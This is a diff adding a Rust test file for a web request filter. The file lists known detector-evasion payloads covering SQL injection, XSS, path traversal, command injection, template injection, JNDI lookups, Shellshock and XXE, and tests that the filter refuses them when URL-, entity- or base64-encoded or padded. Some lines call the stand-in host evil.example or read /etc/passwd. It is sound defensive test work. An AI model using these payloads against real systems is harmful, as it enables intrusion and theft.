@@ -1,0 +1,177 @@
+//! Attacks that have slipped past other detectors.
+
+use tenancy_security::threat::ThreatKind::{
+    CommandInjection, CrossSiteScripting, JndiLookup, PathTraversal, Shellshock, SqlInjection,
+    TemplateInjection, XmlEntity,
+};
+use tenancy_security::threat::{Place, ThreatKind};
+
+use super::refused;
+
+const ATTACKS: &[(ThreatKind, &str)] = &[
+    // Reported against libinjection and the Core Rule Set.
+    (
+        SqlInjection,
+        "0); show warnings; set @q=0x73656c656374; prepare s from @q; execute s",
+    ),
+    (SqlInjection, "SELECT-id-1.FROM`test`"),
+    (SqlInjection, "' + 1<@. union select 1,2,3 -- "),
+    (SqlInjection, "' OR 1=1;'"),
+    (SqlInjection, "1)-sleep(9999"),
+    (SqlInjection, "1 or true"),
+    (SqlInjection, "1.or-id"),
+    (SqlInjection, "1 or {`if`(1=1)}"),
+    (SqlInjection, "1/**/union/*x*/select/**/1,2,3"),
+    (SqlInjection, "1/*!50000union*/ /*!50000select*/ 1,2"),
+    (SqlInjection, "1+union+select+1,2,3"),
+    (SqlInjection, "1\u{a0}or\u{a0}1=1"),
+    (SqlInjection, "x' || pg_sleep(5) --"),
+    (SqlInjection, "1; waitfor delay '0:0:5'--"),
+    (
+        SqlInjection,
+        "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
+    ),
+    (SqlInjection, "\u{ff07} or 1=1 -- "),
+    (CrossSiteScripting, "<svg/onload=alert(1)//"),
+    (CrossSiteScripting, "<img src=x onerror\u{c}=alert(1)>"),
+    (CrossSiteScripting, "\"onauxclick=alert`1`"),
+    (
+        CrossSiteScripting,
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+    ),
+    (
+        CrossSiteScripting,
+        "<a href=&#106;avascript&colon;alert(1)>x</a>",
+    ),
+    (
+        CrossSiteScripting,
+        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
+    ),
+    (CrossSiteScripting, "';alert.call(null,1)//"),
+    (CrossSiteScripting, "document[\"cookie\"]"),
+    (CrossSiteScripting, "<scr\0ipt>alert(1)</scr\0ipt>"),
+    (PathTraversal, "....//....//etc/passwd"),
+    (PathTraversal, "..\\..\\windows\\win.ini"),
+    (PathTraversal, "%c0%ae%c0%ae/%c0%ae%c0%ae/secret"),
+    (
+        PathTraversal,
+        "php://filter/convert.base64-encode/resource=index.php",
+    ),
+    (CommandInjection, "; cat /et'c/pa'ss'wd"),
+    (CommandInjection, "|/???/c?t${IFS}x"),
+    (CommandInjection, "x;w\\h\\o\\a\\m\\i"),
+    (CommandInjection, "a=`id`"),
+    (CommandInjection, "$(curl http://evil.example/x)"),
+    (TemplateInjection, "{{7*7}}"),
+    (
+        TemplateInjection,
+        "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    ),
+    (JndiLookup, "${jndi:ldap://evil.example/a}"),
+    (JndiLookup, "${${lower:j}${::-n}di:ldap://evil.example/a}"),
+    (Shellshock, "() { :; }; /bin/bash -c id"),
+    (
+        XmlEntity,
+        "<!DOCTYPE x [ <!ENTITY y SYSTEM \"file:///etc/hosts\"> ]><x>&y;</x>",
+    ),
+    (XmlEntity, "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>"),
+];
+
+#[test]
+fn known_evasions_are_refused() {
+    let passed: Vec<_> = ATTACKS
+        .iter()
+        .filter(|(kind, attack)| match refused(Place::Query, attack) {
+            // The file that a command or an entity reads may be what gives it away.
+            Some(finding) => {
+                !(finding.kind() == *kind || matches!(kind, CommandInjection | XmlEntity))
+            }
+            None => true,
+        })
+        .collect();
+    assert!(
+        passed.is_empty(),
+        "passed, or were taken for another attack: {passed:?}"
+    );
+}
+
+#[test]
+fn encoding_an_attack_does_not_hide_it() {
+    type Encode = fn(&str) -> String;
+    let encodings: [(&str, Encode); 6] = [
+        ("URL", url),
+        ("URL twice", |attack| url(&url(attack))),
+        ("decimal references", |attack| {
+            attack
+                .chars()
+                .map(|letter| format!("&#{};", u32::from(letter)))
+                .collect()
+        }),
+        ("hexadecimal references", |attack| {
+            attack
+                .chars()
+                .map(|letter| format!("&#x{:x}", u32::from(letter)))
+                .collect()
+        }),
+        ("unicode escapes", |attack| {
+            attack
+                .encode_utf16()
+                .map(|unit| format!("\\u{unit:04x}"))
+                .collect()
+        }),
+        ("base64", base64),
+    ];
+    for attack in [
+        "1' or '1'='1",
+        "1 union select password from users",
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "../../../../etc/passwd",
+        "; cat /etc/passwd",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}}",
+    ] {
+        for (name, encode) in encodings {
+            let encoded = encode(attack);
+            assert!(
+                refused(Place::Query, &encoded).is_some(),
+                "{attack:?} passed in {name}: {encoded}"
+            );
+        }
+    }
+}
+
+#[test]
+fn padding_before_an_attack_does_not_hide_it() {
+    for attack in [
+        " 1 union select 1,2,3 -- ",
+        "<script>alert(1)</script>",
+        ";cat /etc/passwd",
+    ] {
+        for kibibytes in [8, 16, 32, 64, 128] {
+            let padded = "lorem ipsum ".repeat(kibibytes * 1024 / 12) + attack;
+            assert!(
+                refused(Place::Query, &padded).is_some(),
+                "{attack:?} passed behind {kibibytes} KiB"
+            );
+        }
+    }
+}
+
+fn url(text: &str) -> String {
+    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
+}
+
+fn base64(text: &str) -> String {
+    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut encoded = String::new();
+    for group in text.as_bytes().chunks(3) {
+        let bits = (0..3).fold(0_usize, |bits, at| {
+            bits << 8 | usize::from(group.get(at).copied().unwrap_or(0))
+        });
+        for at in 0..=group.len() {
+            encoded.push(char::from(DIGITS[bits >> (18 - 6 * at) & 63]));
+        }
+    }
+    encoded
+}
